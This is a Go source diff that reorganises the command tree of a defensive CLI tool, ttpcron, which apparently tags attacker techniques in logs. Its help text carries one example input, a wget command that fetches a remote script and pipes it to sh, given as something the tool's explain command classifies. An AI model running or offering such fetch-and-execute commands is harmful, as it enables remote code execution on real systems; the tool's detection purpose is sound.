@@ -53,21 +53,33 @@ ttpcron run-once --since-days 30
 ttpcron tags --since 7d
 ttpcron explain "wget http://203.0.113.9/x.sh -O- | sh"`,
 		Exits: []int{exitFailed, exitLocked, exitInterrupted},
-		Sub: []*command{
-			importCommand(),
-			runOnceCommand(),
-			daemonCommand(),
-			tagsCommand(),
-			statusCommand(),
-			exportCommand(),
-			exportEventsCommand(),
-			checkpointCommands(),
-			rulesCommands(),
-			dbCommands(),
-			configCommands(),
-			explainCommand(),
-			versionCommand(),
-		},
+		Sub: slices.Concat(
+			cli.Under("import and tag",
+				importCommand(),
+				runOnceCommand(),
+				daemonCommand(),
+			),
+			cli.Under("see what was found",
+				tagsCommand(),
+				explainCommand(),
+			),
+			cli.Under("hand it on",
+				exportCommand(),
+				exportEventsCommand(),
+			),
+			cli.Under("rules",
+				rulesCommands(),
+			),
+			cli.Under("look after the store",
+				statusCommand(),
+				checkpointCommands(),
+				dbCommands(),
+			),
+			cli.Under("setup",
+				configCommands(),
+				versionCommand(),
+			),
+		),
 	}
 }
 
@@ -117,8 +129,11 @@ func (p *invocation) main(ctx context.Context, args []string) error {
 // commands are the commands of a tree, ready to run.
 func (p *invocation) commands(root *command) *cli.Program[*session] {
 	return &cli.Program[*session]{
-		Root: root, Share: settings.Share, Shared: settings.SharedFlags, Open: p.open,
-		Exits: exitTexts, Done: exitDone, Usage: exitUsage,
+		Root: root, Share: settings.Share, Shared: settings.SharedFlags, SharedText: settings.SharedText, Open: p.open,
+		FlagGroups: []cli.FlagGroup{cli.FlagsOf("filters", new(tagSelection).define)},
+		Version:    "version",
+		First:      "begin with ttpcron run-once --input PATH, then ttpcron tags; ttpcron --help lists all commands",
+		Exits:      exitTexts, Done: exitDone, Usage: exitUsage,
 	}
 }
 
